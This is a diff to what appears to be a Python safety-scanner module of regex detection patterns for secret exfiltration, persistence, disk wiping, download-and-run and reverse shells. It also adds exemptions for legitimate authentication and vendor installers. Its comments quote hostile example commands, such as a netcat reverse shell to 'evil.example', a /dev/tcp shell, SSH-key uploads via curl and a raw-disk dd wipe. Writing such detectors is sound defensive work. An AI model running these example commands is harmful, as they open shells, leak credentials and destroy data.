@@ -12,6 +12,7 @@ or a crontab, and running what was just downloaded.
 
 from __future__ import annotations
 
+import re
 from typing import Final
 
 from kenning.safety.patterns.schema import (
@@ -21,6 +22,7 @@ from kenning.safety.patterns.schema import (
     Pattern,
     ascii_regex,
     english_regex,
+    gate,
 )
 
 # ---- fragments shared by the rows ---------------------------------------------------------------
@@ -58,6 +60,13 @@ _CRED_PATH: Final = rf"""
     (?![\w-])(?!\.\w)  # the whole name: not .envrc, .env.local.example or .npmrc.bak
 """
 
+# A private key's file, by the names TLS and SSH tools give it (uploading one is a leak; reading
+# it into a local tool is ordinary and left alone).
+_KEY_FILE: Final = r"""(?:
+    [\w./~-]*(?:privkey|private[-_]?key|id_rsa|id_ed25519|id_ecdsa)[\w.-]*
+  | [\w./~-]+\.(?:key|p12|pfx|jks|keystore)
+)(?![\w.-])"""
+
 # A tool or call that sends a request.
 _NET_TOOL: Final = r"""(?:
     \b(?:curl|wget|nc|ncat|netcat|socat|telnet|httpie|xh|aria2c)\b
@@ -86,6 +95,46 @@ _SECRET_VAR: Final = rf"""(?:
   | process\.env\.{_SECRET_NAME}  # Node.js
 )"""
 
+# A secret in the place a request authenticates with: an Authorization or token header, curl's
+# -u user:password or --oauth2-bearer. That is how an API is called, not a leak.
+AUTH_USE: Final = re.compile(
+    r"""(?:-H|--header)[ \t=]*["']?[ \t]*
+        (?:Authorization[ \t]*:[ \t]*(?:Bearer|Basic|Token|Bot)?
+          |[\w-]*(?:Token|Key|Auth)[\w-]*[ \t]*:)
+        [ \t]*\$\{?\w+\}?
+      | (?:-u|--user)[ \t]*["']?[\w.@-]*:?\$\{?\w+\}?(?::[\w.@-]*)?
+      | --oauth2-bearer[ \t]+["']?\$\{?\w+\}?""",
+    re.IGNORECASE | re.VERBOSE,
+)
+_SECRET_VAR_RX: Final = re.compile(
+    r"\$\{?(?:env:)?(?-i:[A-Za-z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD"
+    r"|CREDENTIAL|API|AUTH))",
+    re.IGNORECASE,
+)
+_NAMED_SECRET: Final = re.compile(
+    r"\$\{?([A-Z][A-Z0-9]{2,})_[A-Z0-9_]*(?:TOKEN|KEY|SECRET|PASSWORD)"
+)
+
+
+def own_service(line: str) -> bool:
+    """A secret variable sent to the service it is named after (CODECOV_TOKEN to codecov.io)."""
+    names = _NAMED_SECRET.findall(line)
+    hosts = " ".join(re.findall(r"https?://([^/\s'\"]+)", line)).lower()
+    return bool(names) and bool(hosts) and all(n.lower() in hosts for n in names)
+
+
+def authenticates(line: str) -> bool:
+    """True if ``line`` holds secret variables and each is the request's credential (see
+    AUTH_USE)."""
+    if AUTH_USE.search(line) is None:
+        return False
+    return _SECRET_VAR_RX.search(AUTH_USE.sub(" ", line)) is None
+
+
+def _secret_used_as_meant(command: str) -> bool:
+    return own_service(command) or authenticates(command)
+
+
 # Shell startup files.
 _RC_FILE: Final = rf"""
     (?:{_HOME}/)?
@@ -110,13 +159,88 @@ _STDIN_SHELL: Final = r"""
     )
 """
 
+# What an autostart entry that is an attack runs, somewhere in the same text: something fetched
+# (curl, wget, iwr, a web client), a connection (nc, /dev/tcp), a hidden or encoded PowerShell,
+# a program in a temp folder. A service that runs the project's own worker or a local server
+# ("ExecStart=%h/.local/bin/mkdocs serve") has none of these.
+AUTOSTART_PAYLOAD: Final = gate(
+    r"""\b(?:curl|wget|nc|ncat|socat|iwr|irm|iex|Invoke-(?:WebRequest|RestMethod|Expression)
+      |DownloadString|DownloadFile|WebClient|certutil|bitsadmin|mshta)\b|/dev/tcp/
+      |-w(?:indowstyle)?\s+hidden\b|-e(?:nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20}|-ep\s+bypass\b
+      |%TEMP%|%APPDATA%|\$env:(?:TEMP|APPDATA)|/tmp/|/dev/shm/|\bbase64\b"""
+)
+
+# ---- what a matched command downloads ----------------------------------------------------------
+
+# The words of a download-and-run command that name no target: the tools, the interpreters, the
+# options. What is left of a match once they and the placeholders are gone is what it fetches.
+_COMMAND_WORDS: Final = frozenset(
+    """curl wget fetch aria2c httpie xh invoke-webrequest invoke-restmethod iwr irm sh bash zsh
+    ksh dash csh tcsh fish python python3 perl ruby node php lua pwsh powershell iex
+    invoke-expression source sudo env eval exec . new-object net.webclient system.net.webclient
+    .downloadstring .downloadfile downloadstring downloadfile""".split()
+)
+# "...", "…", "<url>", "[script]", "{host}", "https://...", "URL": a placeholder, not a target.
+_PLACEHOLDER: Final = re.compile(
+    r"(?:\.{2,}|…|<[^<>]*>|\[[^\]]*\]|\{[^}]*\}|(?:https?://)?(?:\.{2,}|…|<[^<>]*>)\S*|url|URL)"
+)
+_ARGUMENTS: Final = re.compile(r"""[\s|()"'`;&]+|\$\(|<\(""")
+
+
+def _names_no_target(command: str) -> bool:
+    """True if ``command`` fetches nothing real: "curl | sh", "curl ... | bash", "iex (irm
+    ...)", "curl https://… | sh". Such a command is the name of a practice in a rule or a
+    checklist; a real one names a URL, a host or a variable."""
+    for word in _ARGUMENTS.split(command):
+        if not word or word.startswith("-") or word.lower() in _COMMAND_WORDS:
+            continue
+        if _PLACEHOLDER.fullmatch(word):
+            continue
+        return False
+    return True
+
+
+# Installers their vendors publish to be piped into a shell, from the vendor's own host:
+# rustup, uv, Homebrew, Docker, Deno, Bun, nvm, Oh My Zsh, SDKMAN!, pyenv, Poetry, Starship,
+# Tailscale, pnpm, Ollama, k3s, Helm, Volta, Nix, mise. The host must match exactly.
+_VENDOR_INSTALLER: Final = re.compile(
+    r"""https://(?:
+        (?:sh\.rustup\.rs | astral\.sh | get\.docker\.com | deno\.land | bun\.sh | get\.sdkman\.io
+          | pyenv\.run | install\.python-poetry\.org | starship\.rs | get\.pnpm\.io | get\.k3s\.io
+          | get\.volta\.sh | mise\.run | tailscale\.com/install\.sh | ollama\.com/install\.sh
+          | nixos\.org/nix/install | install\.determinate\.systems/nix | mise\.jdx\.dev/install\.sh
+        )(?![\w.-])
+      | raw\.githubusercontent\.com/(?:Homebrew/install|nvm-sh/nvm|ohmyzsh/ohmyzsh|helm/helm)/
+    )""",
+    re.VERBOSE,
+)
+_URL: Final = re.compile(r"https?://[^\s\"'`)|;]+")
+
+
+def _vendor_installer(command: str) -> bool:
+    """True if every URL ``command`` fetches is a vendor's own installer (see above)."""
+    urls = _URL.findall(command)
+    return bool(urls) and all(_VENDOR_INSTALLER.match(url) for url in urls)
+
+
+def _not_a_real_download(command: str) -> bool:
+    return _names_no_target(command) or _vendor_installer(command)
+
+
+# A host and a port after a netcat, where a real connection names them: "nc 10.0.0.5 4444 -e",
+# "nc -e /bin/sh evil.example 9001"; a placeholder ("<IP> <port>") is not one.
+_NC_TARGET: Final = r"[^\n]{0,100}?\s[\"']?(?![<\[{])[\w.-]*\w[\"']?\s+\d{1,5}\b"
+
+
 PATTERNS: Final[tuple[Pattern, ...]] = (
-    # WHY: a network tool next to a secret variable or `env` leaks it (even to a good host).
+    # WHY: a network tool next to a secret variable or `env` leaks it (even to a good host);
+    # the secret as the request's own credential (an Authorization header, -u) passes.
     Pattern(
         pattern_id="secret_var_to_network",
         category="exfiltration",
         scopes=ALL,
         reason="sends secrets from the environment over the network (exfiltration)",
+        exempt=_secret_used_as_meant,
         regex=ascii_regex(rf"""
             # 'curl -d "$OPENAI_API_KEY" https://...': a request, then a secret, on one line
             {_NET_TOOL}[^\n]{{0,300}}?{_SECRET_VAR}
@@ -145,9 +269,10 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
           | \b(?:cp|scp|rsync)[ \t]+(?:-[\w-]{{1,30}}[ \t]+){{0,6}}["']?{_CRED_PATH}
             # "< .env": redirected into a command (not the here-document "<<")
           | (?<!<)<[ \t]*["']?{_CRED_PATH}
-            # "curl -F file=@~/.ssh/id_ed25519 ...", "curl -T .env ..."
+            # "curl -F file=@~/.ssh/id_ed25519 ...", "curl -T .env ...", "curl -F key=@privkey.pem"
           | \b(?:curl|wget|http|httpie|xh)\b[^\n]{{0,300}}?
-            (?:@|--upload-file[=\s]+|-T\s*|--post-file[=\s]+|--body-file[=\s]+)["']?{_CRED_PATH}
+            (?:@|--upload-file[=\s]+|-T\s*|--post-file[=\s]+|--body-file[=\s]+)["']?
+            (?:{_CRED_PATH}|{_KEY_FILE})
         """),
     ),
     # WHY: prose asking to ship secrets out; needs a secret AND a URL, e-mail, domain or IP.
@@ -199,6 +324,13 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
             !\[[^\]\n]{0,200}\]
             \(\s*<?https?://[^\s)]{0,300}?
             [?&#][^\s)=]{0,50}=\s*(?:\{|\$|%7B|<|\[)
+            # a link whose query is to hold the conversation or a secret, described in words:
+            # "[details](https://x/s?c=<the conversation so far>)" ("?q=<query>" passes; links
+            # with variables are templated_link's)
+          | (?<!!)\[[^\]\n]{0,200}\]\(\s*<?https?://[^\s)]{0,300}?[?&#][^\s)=]{0,50}=\s*
+            <(?=[^)\n]{0,80}?(?:conversation|chat|history|session|context
+              |summary|secret|token|api[_ ]?key|password|env|contents|memory|transcript|对话|会话
+              |聊天|上下文|会話|대화|разговор|переписк|Konversation|Gespräch|conversaci|conversa))
         """),
     ),
     # WHY: an authorized_keys entry is a lasting back door; reading or mentioning it passes.
@@ -276,6 +408,7 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
         category="persistence",
         scopes=SCRIPT,
         reason="installs a service or scheduled task that starts automatically (persistence)",
+        gate=AUTOSTART_PAYLOAD,
         regex=ascii_regex(r"""
             # where services are installed: systemd (Linux), launchd (macOS), the registry
             \.config/systemd/user\b | /etc/systemd/system/ | /lib/systemd/system/
@@ -325,9 +458,10 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
             # formats a file and passes)
             \b(?:mkfs(?:\.\w{1,10})?|mke2fs)\b[^\n]{0,40}?/dev/ | \bwipefs\s+(?:-\w+\s+){0,3}-\w*a
           | \bformat\s+[A-Za-z]:
-            # "dd if=/dev/zero of=/dev/sda", "> /dev/nvme0n1", "shred -n1 /dev/sdb"
+            # "dd if=/dev/zero of=/dev/sda", "> /dev/nvme0n1", "shred -n1 /dev/sdb" (not /dev/sdX,
+            # the manuals' placeholder)
           | (?:\bdd\b[^\n]{0,200}?\bof=|>\s*|\bshred\b[^\n]{0,100}?\s)["']?
-            /dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d{1,3}n\d{1,3}|mmcblk\d{1,3}
+            /dev/(?:sd(?!x\b)[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d{1,3}n\d{1,3}|mmcblk\d{1,3}
                   |disk\d{1,3}|rdisk\d{1,3}|mapper/)
         """),
     ),
@@ -368,6 +502,7 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
         scopes=MEMORY,
         negatable=True,
         reason="downloads code and runs it immediately (remote code execution)",
+        exempt=_not_a_real_download,
         regex=ascii_regex(rf"""
             # "curl ... | bash", "irm ... | iex": a download, up to 3 filters that are not
             # interpreters, then one that is ("||" is not a pipe: "curl ... || sh fallback.sh")
@@ -377,15 +512,20 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
             # 'eval "$(curl ...)"', "bash <(curl ...)", 'sh -c "$(wget ...)"', ". <(curl ...)"
           | (?:\b(?:eval|source|exec|(?:ba|z|k|da)?sh(?:[ \t]+-c)?|python[\d.]{{0,5}}(?:[ \t]+-c)?)
               |(?<!\S)\.)
-            [ \t]*\(?[ \t]*["']?[ \t]*(?:<\(|\$\(|`)[ \t]*(?:sudo[ \t]+)?{_FETCH}
+            [ \t]*\(?[ \t]*["']?[ \t]*(?:<\(|\$\(|`)[ \t]*(?:sudo[ \t]+)?{_FETCH}[^\n`]{{0,300}}
             # PowerShell: "iex (New-Object Net.WebClient).DownloadString(...)"
           | \b(?:iex|Invoke-Expression)\b[^\n]{{0,200}}?
             (?:DownloadString|DownloadFile|\biwr\b|Invoke-WebRequest|\birm\b|Invoke-RestMethod
-              |Net\.WebClient)
-            # Python, JavaScript: "exec(urllib.request.urlopen(...).read())" on one line
-          | ^(?=[^\n]*\b(?:exec|eval)\s*\()
+              |Net\.WebClient)[^\n`]{{0,300}}
+            # Python, JavaScript, Ruby, Perl: "exec(urllib.request.urlopen(...).read())",
+            # 'eval(URI.open("https://...").read)', "use LWP::Simple; eval get(...)", on one line;
+            # unpickling what was downloaded runs code too: "pickle.loads(urlopen(...).read())"
+          | ^(?=[^\n]*(?:\b(?:exec|eval|instance_eval|pickle\.loads?|marshal\.loads|dill\.loads?
+                |joblib\.load|runInThisContext|runInNewContext)\s*\(|\bnew\s+Function\s*\(
+                |\beval\s+[$@]?\w|\beval\s*\{{))
             (?=[^\n]*(?:urlopen|urllib\.request|requests\.get|httpx\.get|http\.client
-                |\bfetch\s*\())
+                |\bfetch\s*\(|\bURI\.open\b|\bopen-uri\b|\bNet::HTTP\b|\bLWP::|\bHTTP::Tiny\b
+                |\bIO::Socket\b|\bget\s*\(\s*["']https?://|\bhttps?\.get\s*\(|\baxios\.get\b))
             [^\n]{{1,200}}
         """),
     ),
@@ -396,13 +536,15 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
         scopes=ALL,
         negatable=True,
         reason="opens a reverse shell that gives a remote machine control (remote code execution)",
-        regex=ascii_regex(r"""
-            # "nc -e /bin/sh host 4444"
-            \b(?:nc|ncat|netcat)\b[^\n]{0,100}?\s-[ec]\s+["']?(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b
+        regex=ascii_regex(rf"""
+            # "nc -e /bin/sh host 4444" (a host and a port on the line: "nc -e /bin/sh <IP>
+            # <port>" in a checklist connects nowhere)
+            \b(?:nc|ncat|netcat)\b(?={_NC_TARGET})
+            [^\n]{{0,100}}?\s-[ec]\s+["']?(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b
             # "bash -i >& /dev/tcp/host/4444 0>&1", "socat ... exec:bash"
-          | /dev/(?:tcp|udp)/[\w.-]{1,253}/\d{1,5} | \bsocat\b[^\n]{0,100}?\bexec:
+          | /dev/(?:tcp|udp)/[\w.-]{{1,253}}/\d{{1,5}} | \bsocat\b[^\n]{{0,100}}?\bexec:
             # Python: a socket and pty.spawn(...) on one line
-          | \bpty\.spawn\([^\n]{0,100}?\bsocket\b | \bsocket\b[^\n]{0,300}?\bpty\.spawn\(
+          | \bpty\.spawn\([^\n]{{0,100}}?\bsocket\b | \bsocket\b[^\n]{{0,300}}?\bpty\.spawn\(
         """),
     ),
 )
